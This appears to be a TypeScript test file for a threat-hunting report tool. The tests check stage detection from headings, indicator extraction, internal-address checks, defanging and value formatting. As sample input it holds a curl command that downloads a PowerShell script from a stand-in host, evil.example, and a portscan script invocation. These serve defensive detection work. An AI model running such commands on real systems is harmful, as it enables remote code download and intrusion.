/** The report's parts: headings as stages, indicators, defanging, display of values. */
import assert from 'node:assert/strict';
import { defangAddress, defangUrl } from '../../src/report/defang.ts';
import { displayValue, grouped, shortInstant } from '../../src/report/displayValue.ts';
import { indicatorsOf } from '../../src/report/indicatorsOf.ts';
import { isInternalAddress } from '../../src/report/internalAddress.ts';
import { stageOf } from '../../src/report/stageOf.ts';
import type { WireValue } from '../../src/kql/types.ts';
import { columns, finding } from './sampleHunt.ts';

describe('the stage that a heading opens', () => {
  const cases: [heading: string, stage: string | undefined][] = [
    ['Preparation', 'Preparation'],
    ['1. 🧰 Preparation', 'Preparation'],
    ['1. ğŸ§° Preparation', 'Preparation'],
    ['4. ğŸ•µï¸â€â™‚ï¸ Investigation', 'Investigation'],
    ['🛠️Improvement', 'Improvement'],
    ['Step 2: DATA COLLECTION', 'Data Collection'],
    ['Stage III - Data analysis', 'Data Analysis'],
    ['Phase 5 — Response', 'Response'],
    ['Response: contain the host', 'Response'],
    ['7) Improvements', 'Improvement'],
    ['Response time of the servers', undefined],
    ['Prevention Suggestions', undefined],
    ['Scenario Summary', undefined],
    ['✅ Actions Taken', undefined],
    ['', undefined],
    ['3.', undefined],
  ];
  for (const [heading, stage] of cases) {
    it(`${heading === '' ? 'nothing' : heading} -> ${stage ?? 'none'}`, () =>
      assert.equal(stageOf(heading), stage));
  }
});

describe('indicators of findings', () => {
  const found = (specification: string, value: WireValue) =>
    indicatorsOf([finding({ columns: columns(specification), rows: [[value]] })]).map(
      ({ kind, text }) => `${kind} ${text}`,
    );

  it('finds addresses alone, with a port, in text and in dynamics', () => {
    assert.deepEqual(found('RemoteIP', '203.0.113.9'), ['IP address 203[.]0[.]113[.]9']);
    assert.deepEqual(found('Text', 'to 203.0.113.9:445, then fe80::1.'), [
      'IP address 203[.]0[.]113[.]9',
      'IP address fe80[:][:]1',
    ]);
    assert.deepEqual(found('Ips:dynamic', ['10.0.0.1', { a: '10.0.0.2' }]).length, 2);
  });

  it('takes no version, number or timespan for an address', () => {
    assert.deepEqual(found('Version', '10.0.19041.1'), []);
    assert.deepEqual(found('Window', '00:10:00'), []);
    assert.deepEqual(found('Count:long', 10), []);
  });

  it('finds URLs with their hosts, and domains only where a column says so', () => {
    assert.deepEqual(found('CommandLine', 'curl https://evil.example/a.ps1 -o x'), [
      'Domain evil[.]example',
      'URL hxxps://evil[.]example/a.ps1',
    ]);
    assert.deepEqual(found('RemoteUrl', 'Evil.Example'), ['Domain evil[.]example']);
    assert.deepEqual(found('FileName', 'portscan.ps1'), []);
    assert.deepEqual(found('AccountDomain', 'corp.example'), []);
  });

  it('finds hashes by column, not every long hex text', () => {
    const sha1 = 'F43D9BB316E30AE1A3494AC5B0624F6BEA1BF054';
    assert.deepEqual(found('SHA1', sha1), [`Hash ${sha1.toLowerCase()}`]);
    assert.deepEqual(found('DeviceId', sha1), []);
  });

  it('finds paths in command lines and path columns', () => {
    assert.deepEqual(found('CommandLine', 'powershell -File C:\\programdata\\portscan.ps1 -x'), [
      'File path C:\\programdata\\portscan.ps1',
    ]);
    assert.deepEqual(found('CommandLine', '"C:\\Program Files\\a b\\x.exe" /c'), [
      'File path C:\\Program Files\\a b\\x.exe',
    ]);
    assert.deepEqual(found('FolderPath', '/usr/local/bin/scan.sh'), ['File path /usr/local/bin/scan.sh']);
  });

  it('joins an account with its domain and counts the rows of each indicator once', () => {
    const [account] = indicatorsOf([
      finding({
        title: 'F',
        columns: columns('AccountDomain', 'AccountName', 'A', 'B'),
        rows: [
          ['NT AUTHORITY', 'SYSTEM', '10.0.0.5', '10.0.0.5'],
          ['nt authority', 'system', '10.0.0.5', ''],
        ],
      }),
    ]).filter(({ kind }) => kind === 'Account');
    assert.equal(account?.text.toLowerCase(), 'nt authority\\system');
    assert.equal(account.rows, 2);
    assert.deepEqual(account.seenIn, ['F']);
  });
});

describe('internal addresses', () => {
  for (const address of [
    '10.0.0.5',
    '172.31.1.1',
    '192.168.0.1',
    '100.64.0.1',
    '127.0.0.1',
    '169.254.1.1',
    'fd00::1',
    'fe80::1',
    '::1',
    '::ffff:10.0.0.5',
  ]) {
    it(`${address} is internal`, () => assert.equal(isInternalAddress(address), true));
  }
  for (const address of ['8.8.8.8', '172.32.0.1', '100.128.0.1', '2001:db8::1', '::ffff:8.8.8.8']) {
    it(`${address} is not`, () => assert.equal(isInternalAddress(address), false));
  }
});

describe('display', () => {
  it('defangs addresses and URLs but leaves a path readable', () => {
    assert.equal(defangAddress('10.0.0.5'), '10[.]0[.]0[.]5');
    assert.equal(defangUrl('http://a.example:8080/x.y?z=1.2'), 'hxxp://a[.]example:8080/x.y?z=1.2');
    assert.equal(defangUrl('ftp://a.example'), 'fxp://a[.]example');
  });

  it('shortens instants exactly and groups digits', () => {
    assert.equal(shortInstant('2025-05-07T12:37:46.3178130Z'), '2025-05-07 12:37:46.317813 UTC');
    assert.equal(shortInstant('2025-05-07T12:37:46.0000000Z'), '2025-05-07 12:37:46 UTC');
    assert.equal(shortInstant('no time'), 'no time');
    assert.equal(grouped(1234567), '1,234,567');
  });

  it('shows null as nothing and dynamics as JSON', () => {
    const [column] = columns('a:dynamic');
    assert.ok(column);
    assert.equal(displayValue(null, column), '');
    assert.equal(displayValue({ a: [1, 'x'] }, column), '{"a":[1,"x"]}');
    assert.equal(displayValue(false, column), 'false');
  });
});
